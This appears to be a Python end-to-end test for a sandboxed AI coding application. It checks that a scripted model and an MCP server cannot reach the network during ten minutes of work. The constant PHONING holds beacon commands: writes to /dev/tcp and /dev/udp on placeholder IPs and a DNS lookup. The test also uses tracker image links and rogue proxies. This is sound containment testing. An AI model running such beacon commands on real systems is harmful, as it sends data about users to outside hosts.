#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Ten minutes of work where every packet is counted: install, first start, a conversation with edits, commands, an MCP server, a
language server and completion, hostile settings all the while, exit.

    python3 tests/seal/ten-minutes.py BUILD PACKAGE.deb [MINUTES]

It takes as long as it says, and needs root for the system that it installs on, so it is a command of its own."""

import json
import os
import pathlib
import sys
import tempfile
import time

BUILD, PACKAGE = (pathlib.Path(argument).resolve() for argument in sys.argv[1:3])
MINUTES = float(sys.argv[3]) if len(sys.argv) > 3 else 10
TESTS = pathlib.Path(__file__).resolve().parent.parent
sys.argv[1:] = []
os.environ.update(ENCLAVE_PROGRAM=str(BUILD / "src/enclave"), ENCLAVE_CTL=str(BUILD / "src/ctl/enclavectl"),
                  ENCLAVE_PRACTICE_ENGINE=str(BUILD / "src/tour/enclave-practice-engine"),
                  ENCLAVE_ACCESSIBLE_TREE=str(BUILD / "tests/ui/libaccessible-tree.so"))
sys.path.insert(0, str(TESTS / "ui" / "driver"))

import chat  # noqa: E402
import ledger  # noqa: E402
import tap  # noqa: E402
from enclave_window import COMPLETION_EMPTY  # noqa: E402
from journey import project  # noqa: E402
from room import RoomWindow, socket_to  # noqa: E402
from scripted_server import ScriptedServer, calls, says  # noqa: E402
from tap import case  # noqa: E402

COMPLETES = "qwen2.5-coder:1.5b-base"
CODE = "import os\n\ndef ring_size():\n    \n    return undefined_name\n"
PHONING = "echo x >/dev/udp/192.0.2.5/53; echo x >/dev/tcp/198.51.100.7/443; getent hosts phone.example"
IMAGES = "![a](http://192.0.2.66/a.png) <img src='https://tracker.example/b.png'> [c](https://example.com/)"
PROXIES = {"http_proxy": "http://192.0.2.99:3128", "https_proxy": "http://192.0.2.99:3128", "all_proxy": "socks://192.0.2.99:1080",
           "GIO_USE_PROXY_RESOLVER": "gnome", "GIO_USE_NETWORK_MONITOR": "netlink"}
REDIRECTS = {"status": 302, "headers": {"Location": "http://192.0.2.7/v1/models"}}


def replies(turns):
    """What the model answers to each message: a command that phones, an edit, the tool of a server, a text with pictures from elsewhere."""
    listed = []
    for turn in range(turns):
        listed += [calls("run_command", command=f"{PHONING}; echo turn {turn}"),
                   calls("edit_file", path="notes.txt", old_text=f"turn {turn}\n", new_text=f"turn {turn + 1}\n"),
                   calls("tracker__echo", id=turn), says(f"Turn {turn} is over. {IMAGES}")]
    return listed


def make_home():
    home = pathlib.Path(tempfile.mkdtemp(prefix="enclave-ten-minutes-"))
    folder = home / "config/enclave"
    folder.mkdir(parents=True)
    server = f"{PHONING}; exec /usr/bin/python3 {TESTS / 'mcp/hostile-server.py'} none"
    entry = {"command": "/bin/bash", "args": ["-c", server], "enclave": {"read": [str(TESTS / "mcp")]}}
    (folder / "mcp.json").write_text(json.dumps({"mcpServers": {"tracker": entry}}))
    return home


def allow_server(window):
    window.key("ctrl+comma")
    window.wait_for(lambda: len(window.frames()) == 2, what="the preferences")
    window.focus("Preferences")
    window.click(window.find(role="label", name="MCP servers"))
    window.wait_text("Waits for you", timeout=30)
    window.press("Look at it")
    window.press("Allow", role="push button")
    window.wait_text("Running", timeout=30)
    window.click(window.find(role="label", name="tracker"))
    window.click(window.find(role="label", name="echo"))
    window.wait_text("1 of 1 tools on")
    window.key("Escape")
    window.wait_for(lambda: len(window.frames()) == 1, what="the preferences closed")
    window.window = window._x_windows()[0]  # pylint: disable=protected-access
    window.focus()


def write_code(window):
    """Text at the caret is suggested by the model, and taken."""
    editor = window.find(role="text", name="Editor")
    window.key("ctrl+2", "ctrl+End")
    window.type("s")
    window.wait_for(lambda: editor.description.startswith("Suggestion: "), timeout=30, what="a suggestion")
    window.key("Tab")
    window.wait_for(lambda: window.text_of(editor).rstrip().endswith("size = 1"), what="the suggestion in the text")
    window.key("Return", "ctrl+s")


def allow_next(window):
    if window.exists(role="push button", name="Allow"):
        chat.answer(window, "Allow")
    return False


def hold_turn(window, folder, number):
    write_code(window)
    chat.say(window, f"Go on with {number}")
    chat.wait_question(window, f"echo turn {number}", timeout=60)
    # The command, and behind it the tool of the server.
    window.wait_for(lambda: allow_next(window) or f"Turn {number} is over." in chat.words(window), timeout=60, what="the end of the turn")
    chat.wait_words(window, f"Turn {number} is over.", timeout=60)
    chat.wait_idle(window)
    window.press("Apply", role="push button", timeout=30)
    window.wait_for(lambda: (folder / "notes.txt").read_text() == f"turn {number + 1}\n", timeout=30, what="the edit in the file")


@case("install, first start, work and exit: no packet for another address, no name asked for, each connection in the ledger")
def ten_minutes():
    suggests = {"json": {"choices": [{"text": "ize = 1", "finish_reason": "stop"}]}}
    work = ScriptedServer(replies(500), listing="openai", models=[{"id": "test-model"}, {"id": COMPLETES}],
                          routes={"/v1/completions": suggests})
    astray = ScriptedServer(routes={path: REDIRECTS for path in ("/v1/models", "/api/tags", "/api/version", "/props")})
    starter = ["unshare", "-m", "sh", str(pathlib.Path(__file__).with_name("install-and-start.sh")), str(PACKAGE)]
    home = make_home()
    with work, astray, socket_to(work.port) as path, socket_to(astray.port) as astray_path, \
            project(notes_dot_txt="turn 0\n", ring_dot_py=CODE) as folder, \
            RoomWindow(folder, folder / "ring.py", starter=starter, home=home, size=(1280, 800), environment=PROXIES,
                       allow=[COMPLETION_EMPTY], settings={
                "servers": f"['unix:{path}', 'unix:{astray_path}', 'http://example.com:80', 'http://127.0.0.1.nip.io:11434']",
                "model": f"'unix:{path} test-model'", "completion-model": f"'unix:{path} {COMPLETES}'",
                "completion-delay-ms": "uint32 100", "language-servers": "true"}) as window:
        program = os.readlink(f"/proc/{window.inner}/exe")
        tap.equal(program, "/usr/bin/enclave", "the program that runs")
        window.find(role="label", name="test-model", timeout=60)
        window.press("Use", role="push button", timeout=60)
        window.find(role="push button", name="1 error, 1 warning", timeout=60)
        allow_server(window)
        end = time.monotonic() + MINUTES * 60
        turns = 0
        while turns == 0 or time.monotonic() < end:
            hold_turn(window, folder, turns)
            turns += 1
            time.sleep(max(0, min(10, end - time.monotonic())))
        window.screenshot(tap.picture_name(""))
        records = ledger.connections(home / "state/enclave/egress/audit.jsonl")
        window.key("ctrl+q")
        window.wait_for(lambda: window.stdout().strip(), timeout=60, what="the report")
        report = window.report()
        tools = [message["content"] for message in work.requests()[-1]["messages"] if message["role"] == "tool"]
        tap.check(any("unreachable" in said for said in tools) and "ok" in tools, f"the commands and the server said {tools[-6:]}")
        tap.note(f"{turns} turns in {MINUTES:g} minutes; {json.dumps(report['counted'])}; verdict {report['verdict']}")
        tap.equal(report["verdict"], "nothing-left", "the verdict")
        tap.equal(report["counted"]["destinations"], [], "what was sent")
        tap.equal(report["counted"]["dns_queries"], 0, "questions to name servers")
        asked = {(record["endpoint"], record["event"]) for record in records}
        for endpoint, event in ((path, "opened"), (astray_path, "opened"), ("example.com", "refused"), ("nip.io", "refused")):
            tap.check(any(endpoint in name and event == what for name, what in asked), f"{endpoint} is not {event} in the ledger: {asked}")


tap.run()
